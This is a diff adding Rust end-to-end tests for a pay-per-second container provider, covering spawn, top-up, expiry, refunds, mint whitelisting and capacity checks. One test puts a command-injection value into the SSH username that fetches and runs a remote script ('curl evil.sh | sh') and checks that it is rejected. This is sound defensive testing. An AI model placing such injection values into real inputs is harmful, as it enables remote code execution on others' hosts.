@@ -0,0 +1,319 @@
+// End-to-end provider tests
+//
+// Drives a ProviderService through spawn → status → top-up → expiry → cleanup
+// with the in-memory backend, relay and mint from paygress::mock.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use serde::de::DeserializeOwned;
+
+use paygress::compute::{ContainerConfig, NodeStatus, WorkloadKind};
+use paygress::mock::{random_hex_key, MockBackend, MockOperation, MockPayments, MockRelay};
+use paygress::nostr::{
+    AccessDetailsContent, EncryptedSpawnPodRequest, EncryptedTopUpPodRequest, ErrorResponseContent, PodSpec,
+    StatusRequestContent, StatusResponseContent, TerminateRequestContent, TerminateResponseContent,
+    TopUpResponseContent,
+};
+use paygress::{ProviderConfig, ProviderService};
+
+const MINT: &str = "https://mint.example.com";
+const REPLY_TIMEOUT: Duration = Duration::from_secs(5);
+
+struct Harness {
+    provider: Arc<ProviderService>,
+    backend: Arc<MockBackend>,
+    relay: Arc<MockRelay>,
+    payments: Arc<MockPayments>,
+    ledger_path: String,
+}
+
+impl Drop for Harness {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_file(&self.ledger_path);
+    }
+}
+
+fn test_config(name: &str) -> ProviderConfig {
+    let ledger_path = std::env::temp_dir()
+        .join(format!("paygress-e2e-{}-{}.redb", name, std::process::id()))
+        .to_string_lossy()
+        .to_string();
+    let _ = std::fs::remove_file(&ledger_path);
+
+    ProviderConfig {
+        specs: vec![PodSpec {
+            id: "basic".to_string(),
+            name: "Basic".to_string(),
+            description: "1 vCPU, 1GB RAM".to_string(),
+            cpu_millicores: 1000,
+            memory_mb: 1024,
+            storage_gb: 10,
+            disk_iops: None,
+            rate_msats_per_sec: 1000,
+            kind: WorkloadKind::Container,
+            network: Default::default(),
+        }],
+        whitelisted_mints: vec![MINT.to_string()],
+        heartbeat_interval_secs: 3600,
+        minimum_duration_seconds: 1,
+        ssh_port_start: Some(42000),
+        ssh_port_end: Some(42099),
+        ledger_path,
+        ..ProviderConfig::default()
+    }
+}
+
+/// Start a provider on `backend` and wait until it has published its offer
+async fn start_provider(name: &str, backend: MockBackend) -> Harness {
+    let config = test_config(name);
+    let ledger_path = config.ledger_path.clone();
+    let backend = Arc::new(backend);
+    let relay = Arc::new(MockRelay::new());
+    let payments = Arc::new(MockPayments::new());
+
+    let provider = Arc::new(
+        ProviderService::with_components(config, backend.clone(), relay.clone(), payments.clone())
+            .await
+            .expect("provider should start"),
+    );
+
+    let runner = provider.clone();
+    tokio::spawn(async move { runner.run().await });
+
+    let deadline = tokio::time::Instant::now() + REPLY_TIMEOUT;
+    while relay.offers().is_empty() {
+        assert!(tokio::time::Instant::now() < deadline, "provider never published an offer");
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+
+    Harness { provider, backend, relay, payments, ledger_path }
+}
+
+fn spawn_request(cashu_token: String) -> EncryptedSpawnPodRequest {
+    EncryptedSpawnPodRequest {
+        cashu_token,
+        pod_spec_id: Some("basic".to_string()),
+        pod_image: "ubuntu-22.04".to_string(),
+        ssh_username: "root".to_string(),
+        ssh_password: String::new(),
+        ssh_public_keys: vec![],
+        disable_password_auth: false,
+    }
+}
+
+async fn reply<T: DeserializeOwned>(relay: &MockRelay, user: &str) -> T {
+    let message = relay.next_reply(user, REPLY_TIMEOUT).await.expect("provider should reply");
+    serde_json::from_str(&message.content)
+        .unwrap_or_else(|e| panic!("unexpected reply {}: {}", message.content, e))
+}
+
+#[tokio::test]
+async fn test_spawn_status_topup_expire_cleanup() {
+    let h = start_provider("lifecycle", MockBackend::new().with_latency(Duration::from_millis(5))).await;
+    let user = random_hex_key();
+
+    // 2.5 sats buys 2 seconds at 1000 msats/sec, with 500 msats of change
+    let token = MockPayments::token(MINT, 2500);
+    h.relay.send_request(&user, &spawn_request(token.clone())).unwrap();
+    let access: AccessDetailsContent = reply(&h.relay, &user).await;
+    assert_eq!(access.pod_npub, "container-1000");
+    assert!((42000..=42099).contains(&access.node_port));
+    assert!(access.refund_token.is_some());
+    assert!(h.payments.is_spent(&token));
+    assert_eq!(h.payments.refunds(), vec![(MINT.to_string(), 500)]);
+    assert_eq!(h.backend.container_ids(), vec![1000]);
+    assert_eq!(h.backend.container(1000).unwrap().host_port, Some(access.node_port));
+
+    h.relay.send_request(&user, &StatusRequestContent { pod_id: "1000".to_string() }).unwrap();
+    let status: StatusResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(status.status, "Running");
+    assert_eq!(status.ssh_port, access.node_port);
+
+    let topup = MockPayments::token(MINT, 1000);
+    let request = EncryptedTopUpPodRequest { pod_npub: access.pod_npub.clone(), cashu_token: topup.clone() };
+    h.relay.send_request(&user, &request).unwrap();
+    let extended: TopUpResponseContent = reply(&h.relay, &user).await;
+    assert!(extended.success);
+    assert_eq!(extended.extended_duration_seconds, 1);
+
+    // The same token can't pay twice
+    h.relay.send_request(&user, &request).unwrap();
+    let rejected: ErrorResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(rejected.error_type, "token_already_spent");
+
+    // Nothing is cleaned up before the paid time runs out
+    h.provider.cleanup_expired().await.unwrap();
+    assert_eq!(h.backend.container_ids(), vec![1000]);
+
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
+    while !h.backend.container_ids().is_empty() {
+        assert!(tokio::time::Instant::now() < deadline, "workload was never cleaned up");
+        tokio::time::sleep(Duration::from_millis(250)).await;
+        h.provider.cleanup_expired().await.unwrap();
+    }
+
+    h.relay.send_request(&user, &StatusRequestContent { pod_id: "1000".to_string() }).unwrap();
+    let gone: ErrorResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(gone.error_type, "not_found");
+}
+
+#[tokio::test]
+async fn test_backend_failure_refunds_payment() {
+    let h = start_provider("backend-failure", MockBackend::new()).await;
+    let user = random_hex_key();
+
+    h.backend.fail(MockOperation::Create);
+    h.relay.send_request(&user, &spawn_request(MockPayments::token(MINT, 5000))).unwrap();
+    let error: ErrorResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(error.error_type, "backend_error");
+    assert!(error.refund_token.is_some());
+    assert_eq!(h.payments.refunds(), vec![(MINT.to_string(), 5000)]);
+    assert!(h.backend.container_ids().is_empty());
+
+    // Spawns go through again once the backend recovers
+    h.backend.recover(MockOperation::Create);
+    h.relay.send_request(&user, &spawn_request(MockPayments::token(MINT, 5000))).unwrap();
+    let access: AccessDetailsContent = reply(&h.relay, &user).await;
+    assert_eq!(access.node_port, h.backend.container(1000).unwrap().host_port.unwrap());
+}
+
+#[tokio::test]
+async fn test_terminate_refunds_unused_time_up_to_what_was_paid() {
+    let h = start_provider("terminate", MockBackend::new()).await;
+    let user = random_hex_key();
+
+    // 10 seconds plus a 1 second top-up, all at the rate the workload was sold at
+    h.relay.send_request(&user, &spawn_request(MockPayments::token(MINT, 10_000))).unwrap();
+    let access: AccessDetailsContent = reply(&h.relay, &user).await;
+    let topup = EncryptedTopUpPodRequest { pod_npub: access.pod_npub.clone(), cashu_token: MockPayments::token(MINT, 1000) };
+    h.relay.send_request(&user, &topup).unwrap();
+    let _: TopUpResponseContent = reply(&h.relay, &user).await;
+
+    h.relay.send_request(&user, &TerminateRequestContent { pod_id: access.pod_npub, terminate: true }).unwrap();
+    let terminated: TerminateResponseContent = reply(&h.relay, &user).await;
+    assert!(terminated.terminated);
+    assert!(terminated.refund_token.is_some());
+    assert!((9000..=11_000).contains(&terminated.refund_msats), "refunded {}", terminated.refund_msats);
+    assert_eq!(terminated.refund_msats, terminated.unused_seconds * 1000);
+    assert_eq!(h.payments.refunds(), vec![(MINT.to_string(), terminated.refund_msats)]);
+    assert!(h.backend.container_ids().is_empty());
+}
+
+#[tokio::test]
+async fn test_access_details_use_the_backends_external_host() {
+    let h = start_provider("external-host", MockBackend::new().with_external_host("203.0.113.7")).await;
+    let user = random_hex_key();
+
+    h.relay.send_request(&user, &spawn_request(MockPayments::token(MINT, 5000))).unwrap();
+    let access: AccessDetailsContent = reply(&h.relay, &user).await;
+    let ssh_line = format!("ssh -p {} root@203.0.113.7", access.node_port);
+    assert!(access.instructions.iter().any(|line| line.contains(&ssh_line)), "{:?}", access.instructions);
+
+    h.relay.send_request(&user, &StatusRequestContent { pod_id: "1000".to_string() }).unwrap();
+    let status: StatusResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(status.ssh_host, "203.0.113.7");
+}
+
+#[tokio::test]
+async fn test_partly_created_workload_is_removed() {
+    let h = start_provider("partial-create", MockBackend::new()).await;
+    let user = random_hex_key();
+
+    // The workload exists and runs, then setting up access to it fails
+    h.backend.fail(MockOperation::ConfigureAccess);
+    h.relay.send_request(&user, &spawn_request(MockPayments::token(MINT, 5000))).unwrap();
+    let error: ErrorResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(error.error_type, "backend_error");
+    assert_eq!(h.payments.refunds(), vec![(MINT.to_string(), 5000)]);
+    assert!(h.backend.container_ids().is_empty());
+}
+
+#[tokio::test]
+async fn test_rejects_unlisted_mint_without_redeeming() {
+    let h = start_provider("unlisted-mint", MockBackend::new()).await;
+    let user = random_hex_key();
+
+    let token = MockPayments::token("https://other-mint.example.com", 5000);
+    h.relay.send_request(&user, &spawn_request(token.clone())).unwrap();
+    let error: ErrorResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(error.error_type, "mint_not_accepted");
+    assert_eq!(error.accepted_mints, vec![MINT.to_string()]);
+    assert!(!h.payments.is_spent(&token));
+    assert!(h.backend.container_ids().is_empty());
+}
+
+#[tokio::test]
+async fn test_rejects_shell_metacharacters_in_username() {
+    let h = start_provider("bad-username", MockBackend::new()).await;
+    let user = random_hex_key();
+
+    let token = MockPayments::token(MINT, 5000);
+    let mut request = spawn_request(token.clone());
+    request.ssh_username = "x\"; curl evil.sh | sh; #".to_string();
+    h.relay.send_request(&user, &request).unwrap();
+    let error: ErrorResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(error.error_type, "invalid_request");
+    assert!(!h.payments.is_spent(&token));
+    assert!(h.backend.container_ids().is_empty());
+}
+
+#[tokio::test]
+async fn test_rejects_spawn_beyond_capacity_without_redeeming() {
+    // Room for one 1 GB workload, though the host itself uses most of its memory
+    let backend = MockBackend::new().with_node_status(NodeStatus {
+        cpu_usage: 0.0,
+        cpu_total: 4000,
+        memory_used: 1024 * 1024 * 1024,
+        memory_total: 1536 * 1024 * 1024,
+        disk_used: 0,
+        disk_total: 100 * 1024 * 1024 * 1024,
+    });
+    let h = start_provider("capacity", backend).await;
+    let user = random_hex_key();
+
+    // Heartbeats advertise what's left to sell, not the host's free memory
+    let deadline = tokio::time::Instant::now() + REPLY_TIMEOUT;
+    while h.relay.heartbeats().is_empty() {
+        assert!(tokio::time::Instant::now() < deadline, "provider never sent a heartbeat");
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    let heartbeat = h.relay.heartbeats().remove(0);
+    assert_eq!(heartbeat.available_capacity.memory_mb_available, 1536);
+    assert_eq!(heartbeat.available_capacity.cpu_available, 4000);
+    assert_eq!(heartbeat.available_slots.get("basic"), Some(&1));
+
+    h.relay.send_request(&user, &spawn_request(MockPayments::token(MINT, 5000))).unwrap();
+    let _: AccessDetailsContent = reply(&h.relay, &user).await;
+
+    let token = MockPayments::token(MINT, 5000);
+    h.relay.send_request(&user, &spawn_request(token.clone())).unwrap();
+    let error: ErrorResponseContent = reply(&h.relay, &user).await;
+    assert_eq!(error.error_type, "capacity_exceeded");
+    assert!(!h.payments.is_spent(&token));
+    assert_eq!(h.backend.container_ids().len(), 1);
+}
+
+#[tokio::test]
+async fn test_startup_reaps_workloads_missing_from_ledger() {
+    let backend = MockBackend::new();
+    backend.insert(ContainerConfig {
+        id: 1005,
+        kind: WorkloadKind::Container,
+        name: "paygress-1005".to_string(),
+        image: "ubuntu-22.04".to_string(),
+        cpu_cores: 1,
+        memory_mb: 1024,
+        storage_gb: 10,
+        disk_iops: None,
+        password: "secret".to_string(),
+        ssh_public_keys: vec![],
+        disable_password_auth: false,
+        host_port: Some(42005),
+        duration_secs: 3600,
+        network: Default::default(),
+    });
+
+    let h = start_provider("reap-orphans", backend).await;
+    assert!(h.backend.container_ids().is_empty());
+}